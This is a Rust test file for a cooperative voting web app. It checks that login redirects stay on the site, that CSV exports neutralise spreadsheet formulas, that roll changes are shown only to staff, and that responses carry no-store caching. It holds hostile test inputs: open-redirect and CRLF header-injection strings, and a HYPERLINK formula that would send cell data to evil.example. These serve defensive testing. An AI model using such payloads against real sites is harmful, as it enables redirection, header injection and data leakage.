//! Issue #11, web-layer findings: the login's `next` redirects only within
//! the site, CSV exports neutralise formulas, the roll's changes (other
//! associates' names) are for the staff only, and every answer but the
//! static assets says `Cache-Control: no-store`.

use serde_json::{Value, json};

use crate::helpers::{ADMIN_EMAIL, ADMIN_PASSWORD, TestApp};
use crate::helpers::{Who, concrete, fixture, input_value, log_in};

both_backends!(
    next_redirects_only_within_the_site,
    csv_exports_neutralise_formulas,
    roll_warnings_are_for_the_staff_only,
    every_answer_but_the_assets_is_no_store,
);

/// Every byte but the unreserved ones as `%XX`, as a browser would send a
/// query value.
fn encoded(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            other => format!("%{other:02X}"),
        })
        .collect()
}

/// `next` values that point elsewhere, as the decoded query value the
/// handler gets.
const ELSEWHERE: &[&str] = &[
    "/\t/evil.example/x",
    "/%09/evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
    "%2F%2Fevil.example/x",
    "/%2F/evil.example/x",
    "/%5Cevil.example/x",
    "%5C%5Cevil.example",
    "https://evil.example/x",
    "https:evil.example",
    "\t//evil.example",
];

fn is_local(location: &str) -> bool {
    location.starts_with('/')
        && !location.starts_with("//")
        && !location.starts_with("/\\")
        && location
            .bytes()
            .all(|b| (0x21..=0x7e).contains(&b) && b != b'\\')
}

/// The administrator's login (password, then the code of the second
/// factor enrolled at the start of the test) with this `next`.
async fn login_with_next(app: &TestApp, next: &str) -> reqwest::Response {
    app.page_login(&app.client, ADMIN_EMAIL, ADMIN_PASSWORD, next)
        .await
}

async fn next_redirects_only_within_the_site(app: TestApp) {
    app.create_admin();
    // The first login enrols the administrator's second factor.
    login_with_next(&app, "/dashboard").await;
    // The form keeps a local `next`, and drops any other for the dashboard.
    let form = |next: &str| {
        let url = app.url(&format!("/login?next={}", encoded(next)));
        let client = app.client.clone();
        async move { client.get(url).send().await.expect("the login form") }
    };
    let res = form("/assemblies/3?done=convened").await;
    assert_eq!(res.status(), 200);
    let page = res.text().await.expect("body");
    assert_eq!(
        input_value(&page, "next").as_deref(),
        Some("/assemblies/3?done=convened")
    );
    for next in ELSEWHERE {
        let res = form(next).await;
        assert_eq!(res.status(), 200, "{next:?}");
        let page = res.text().await.expect("body");
        assert_eq!(
            input_value(&page, "next").as_deref(),
            Some("/dashboard"),
            "{next:?}"
        );
    }
    // A login goes to a local `next`, and nowhere else.
    let res = login_with_next(&app, "/assemblies?done=x").await;
    assert_eq!(res.status(), 303);
    assert_eq!(
        res.headers().get("location").and_then(|v| v.to_str().ok()),
        Some("/assemblies?done=x")
    );
    for next in ELSEWHERE {
        let res = login_with_next(&app, next).await;
        assert_eq!(res.status(), 303, "{next:?}");
        let location = res
            .headers()
            .get("location")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_string();
        assert!(is_local(&location), "{next:?} → {location:?}");
        assert_eq!(location, "/dashboard", "{next:?}");
    }
    // A line break is refused with 400, on the form and on the login, and
    // no session is opened.
    for next in [
        "/dashboard\r\nSet-Cookie: planted=1",
        "/x\n",
        "/x%0D%0ALocation: //evil.example",
    ] {
        let res = form(next).await;
        assert_eq!(res.status(), 400, "the form with {next:?}");
        let res = login_with_next(&app, next).await;
        assert_eq!(res.status(), 400, "the login with {next:?}");
        assert!(
            res.headers().get("set-cookie").is_none(),
            "no session for {next:?}"
        );
    }
}

async fn csv_exports_neutralise_formulas(app: TestApp) {
    let fx = fixture(&app).await;
    let admin = log_in(&app, Who::Admin).await;
    let token = admin.token.as_deref().expect("token");
    let names = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Voir\")",
        "-2+3",
        "@SUM(A1:A9)",
        "+33 6 12 34 56 78",
    ];
    for (i, name) in names.iter().enumerate() {
        let res = app
            .post_json(
                "/api/v1/associates",
                &json!({
                    "name": name, "email": format!("formula{i}@example.coop"), "kind": "person",
                    "category": "beneficiary", "college_id": fx.college, "admitted_on": "2025-01-02"
                }),
                Some(token),
            )
            .await;
        assert_eq!(res.status(), 201, "{name}");
    }
    let res = app
        .client
        .get(app.url("/associates/export.csv"))
        .header("Cookie", admin.cookie.as_deref().expect("cookie"))
        .send()
        .await
        .expect("the export");
    assert_eq!(res.status(), 200);
    let text = res.text().await.expect("body");
    // Each of those names is in the file behind a quote, as text.
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Voir\"\")\","),
        "{text}"
    );
    assert!(text.contains("\r\n'-2+3,formula1@example.coop,"), "{text}");
    assert!(text.contains("\r\n'@SUM(A1:A9),"), "{text}");
    assert!(text.contains("\r\n'+33 6 12 34 56 78,"), "{text}");
    // No cell of the file starts a formula.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        let record = record.expect("a CSV record");
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    // The import reads the names back as they were.
    let colleges: Value = app
        .get_api("/api/v1/colleges", Some(token))
        .await
        .json()
        .await
        .expect("JSON");
    let colleges: Vec<(i64, String)> = colleges["colleges"]
        .as_array()
        .expect("colleges")
        .iter()
        .map(|c| {
            (
                c["id"].as_i64().unwrap_or(0),
                c["name"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    let rows = scrutin::export::associates_csv::parse(text.as_bytes(), &colleges)
        .expect("the export imports");
    for name in names {
        assert!(rows.iter().any(|r| r.name == name), "{name} read back");
    }
}

async fn roll_warnings_are_for_the_staff_only(app: TestApp) {
    let fx = fixture(&app).await;
    let admin = log_in(&app, Who::Admin).await;
    let token = admin.token.as_deref().expect("token");
    // Admitted after the convocation: a change of the roll, with a name.
    let res = app
        .post_json(
            "/api/v1/associates",
            &json!({
                "name": "Zoé Tardive", "email": "zoe@example.coop", "kind": "person",
                "category": "beneficiary", "college_id": fx.college, "admitted_on": "2025-03-01"
            }),
            Some(token),
        )
        .await;
    assert_eq!(res.status(), 201);
    let path = format!("/api/v1/assemblies/{}", fx.assembly);
    for who in [Who::Admin, Who::Secretary] {
        let creds = log_in(&app, who).await;
        let body: Value = app
            .get_api(&path, creds.token.as_deref())
            .await
            .json()
            .await
            .expect("JSON");
        let warnings = body["roll_warnings"].as_array().expect("roll warnings");
        assert!(
            warnings.iter().any(|w| w["name"] == "Zoé Tardive"),
            "{who:?}: {body}"
        );
    }
    for who in [Who::Associate, Who::OtherAssociate] {
        let creds = log_in(&app, who).await;
        let res = app.get_api(&path, creds.token.as_deref()).await;
        assert_eq!(res.status(), 200);
        let text = res.text().await.expect("body");
        let body: Value = serde_json::from_str(&text).expect("JSON");
        assert!(body.get("roll_warnings").is_none(), "{who:?}: {body}");
        assert!(!text.contains("Zoé Tardive"), "{who:?}: {text}");
        // The page with the warnings is the staff's only.
        let res = app
            .client
            .get(app.url(&format!("/assemblies/{}", fx.assembly)))
            .header("Cookie", creds.cookie.as_deref().expect("cookie"))
            .send()
            .await
            .expect("the assembly page");
        assert_eq!(res.status(), 403, "{who:?}");
        assert!(!res.text().await.expect("body").contains("Zoé Tardive"));
    }
}

fn cache_control(res: &reqwest::Response) -> String {
    res.headers()
        .get_all("cache-control")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .collect::<Vec<_>>()
        .join(", ")
}

async fn every_answer_but_the_assets_is_no_store(app: TestApp) {
    let fx = fixture(&app).await;
    let admin = log_in(&app, Who::Admin).await;
    let anonymous = log_in(&app, Who::Anonymous).await;
    let mut walked = 0;
    for (method, pattern) in scrutin::web::route_list() {
        if method != "GET" {
            continue;
        }
        let path = concrete(&pattern, &fx);
        for creds in [&admin, &anonymous] {
            let mut req = app.client.get(app.url(&path));
            if let Some(token) = &creds.token {
                req = req.bearer_auth(token);
            }
            if let Some(cookie) = &creds.cookie {
                req = req.header("Cookie", cookie);
            }
            // The headers only: the live screen's events never end.
            let res = req.send().await.expect("request");
            let status = res.status().as_u16();
            let expected = if pattern == "/static/{file}" {
                "public, max-age=3600"
            } else {
                "no-store"
            };
            assert_eq!(
                cache_control(&res),
                expected,
                "GET {path} ({status}, {})",
                if creds.token.is_some() {
                    "admin"
                } else {
                    "anonymous"
                }
            );
            walked += 1;
        }
    }
    assert!(walked > 40, "{walked} answers walked");
    // Answers of other kinds: the API login (a token), an error, a 404.
    let res = app
        .post_json(
            "/api/v1/auth/login",
            &app.api_login_body(ADMIN_EMAIL, ADMIN_PASSWORD),
            None,
        )
        .await;
    assert_eq!(res.status(), 200);
    assert_eq!(cache_control(&res), "no-store");
    let res = app
        .post_json("/api/v1/auth/login", &json!({"email": 1}), None)
        .await;
    assert_eq!(res.status(), 400);
    assert_eq!(cache_control(&res), "no-store");
    for path in ["/no/such/page", "/api/v1/no/such/route"] {
        let res = app.client.get(app.url(path)).send().await.expect("request");
        assert_eq!(res.status(), 404, "{path}");
        assert_eq!(cache_control(&res), "no-store", "{path}");
    }
}
